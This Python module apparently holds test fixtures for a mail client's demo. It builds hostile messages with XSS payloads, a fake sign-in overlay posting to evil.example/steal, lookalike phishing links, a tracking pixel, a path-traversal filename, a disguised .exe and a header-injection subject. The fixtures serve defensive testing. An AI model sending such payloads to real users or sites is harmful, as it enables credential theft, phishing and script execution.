"""The demo's hostile mail: what the page of a message has to be proof against. All of it is harmless where it is."""

from mailboxes.services.demo.building import Letter

_HEAD = "From: {sender}\nSubject: {subject}\nMIME-Version: 1.0\n"

_SCRIPTS = """Content-Type: text/html; charset=utf-8

<h1>Scripts</h1><p>None of these may run.</p>
<script>document.title = "ran"</script><script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert(1)"><svg onload="alert(2)"><script>alert(3)</script></svg>
<p><a href="javascript:alert(4)">a script as a link</a> <a href="data:text/html,<script>alert(5)</script>">a page as a link</a></p>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<math><mi xlink:href="javascript:alert(6)">formula</mi></math>
"""

_OVERLAY = """Content-Type: text/html; charset=utf-8

<style>@import url("https://evil.example/a.css"); body { background: url(https://evil.example/b.png) }
.cover { position: fixed; inset: 0; z-index: 2147483647; background: #fff } p { color: expression(alert(1)) }</style>
<div class="cover" style="position:fixed;top:0;left:0;width:100%;height:100%">
<h1>Your session has ended</h1><p>Sign in again to read your mail.</p>
<form action="https://evil.example/steal" method="post"><input name="user"><input name="password" type="password">
<button>Sign in</button></form></div>
"""

_LINKS = """Content-Type: text/html; charset=utf-8

<p>Dear customer, your parcel waits. Pay 1.99 here:</p>
<p><a href="https://parcel-service.evil.example/pay">https://www.parcel-service.example/track</a></p>
<p><a href="https://xn--pypal-4ve.example/">paypal.example</a></p>
<p style="font-size:1px;color:#fff">invisible words for filters</p>
<img src="https://evil.example/open?who=you" width="1" height="1">
"""

_FILES = """Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=no-such-charset

Names of files that lie: paths, line ends, and a turn of the reading direction.
--b
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="../../../../etc/passwd"

not a password
--b
Content-Type: text/html
Content-Disposition: attachment; filename="invoice.html"

<script>alert("a file that is opened as a page")</script>
--b
Content-Type: application/x-msdownload
Content-Disposition: attachment; filename*=utf-8''annual%E2%80%AEfdp.exe

MZ
--b
Content-Type: image/svg+xml
Content-Disposition: inline; filename="logo.svg"

<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
"""

_BROKEN = """Content-Type: multipart/mixed; boundary="never closed
Content-Transfer-Encoding: base64
X-Long: {long}

=?utf-8?B?not base64 at all?= <b>and some of it</b> is markup & entities &nbsp;&lt;
"""


def letters() -> list[Letter]:
    """Each shows one kind of attack."""
    made = (
        ("Eve <eve@evil.example>", "Scripts in every place", _SCRIPTS),
        ('"Security team" <root@evil.example>', "Your session has ended", _OVERLAY),
        ('"Parcel Service" <info@parce1-service.example>', "Your parcel could not be delivered", _LINKS),
        ("Eve <eve@evil.example>", "Four files", _FILES),
        ('"<script>alert(1)</script>" <x@evil.example>', "=?utf-8?Q?a=0D=0ABcc:_x=40evil.example?=", _BROKEN.format(long="y" * 900)),
    )  # fmt: skip
    return [
        Letter(8 * (len(made) - place), _raw(sender, subject, rest))
        for place, (sender, subject, rest) in enumerate(made)
    ]


def _raw(sender: str, subject: str, rest: str) -> bytes:
    return (_HEAD.format(sender=sender, subject=subject) + rest).encode()
